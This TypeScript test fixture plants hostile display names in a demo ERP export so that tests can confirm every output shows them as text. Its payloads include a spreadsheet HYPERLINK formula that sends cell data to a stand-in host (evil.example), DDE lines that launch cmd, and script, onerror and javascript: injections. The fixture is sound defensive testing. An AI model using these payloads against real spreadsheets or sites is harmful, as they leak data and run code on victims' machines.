/**
 * The demo tenant with hostile display names in its ERP export: formulas a spreadsheet would run,
 * and markup a browser would run. Tests prove every output shows them as text.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { copyDemo } from './cli-helpers';

export const HOSTILE = {
  /** NHI-DORMANT, NHI-ORPHANED, … on SVC_EDI_LEGACY. */
  formula: '=HYPERLINK("http://evil.example/?d="&A1,"open")',
  /** SVC_TAX_EXPORT. */
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  /** SVC_SUPER_BATCH (also in SoD findings). */
  minus: "-2+3+cmd|' /C calc'!A0",
  script: '<script>document.title="pwned"</script>',
  img: '<img src=x onerror="document.title=\'pwned\'">',
  js: 'javascript:alert(1)',
} as const;

/** A private copy of the demo whose ERP service accounts carry `HOSTILE` names. */
export function hostileDemo(): { dir: string; config: string } {
  const demo = copyDemo();
  const file = join(demo.dir, 'examples', 'demo', 'erp', 'users.csv');
  const csvQuote = (s: string) => `"${s.replace(/"/g, '""')}"`;
  const names: Record<string, string> = {
    SVC_EDI_LEGACY: HOSTILE.formula,
    SVC_TAX_EXPORT: HOSTILE.at,
    SVC_SUPER_BATCH: HOSTILE.minus,
  };
  let text = readFileSync(file, 'utf8');
  for (const [id, name] of Object.entries(names)) {
    text = text.replace(new RegExp(`^${id},[^,]*,`, 'm'), `${id},${csvQuote(name)},`);
  }
  // Three people whose names are markup. They hold findings, and the ERP is the only system that
  // names them (no HR or directory display name), so the markup is their display name in titles.
  text = text
    .replace(/^(U\d+),"Murphy, Vera",/m, `$1,${csvQuote(HOSTILE.script)},`)
    .replace(/^(U\d+),"Weber, Pedro",/m, `$1,${csvQuote(HOSTILE.img)},`)
    .replace(/^(U\d+),"Castillo, Zoe",/m, `$1,${csvQuote(HOSTILE.js)},`);
  writeFileSync(file, text);
  return demo;
}
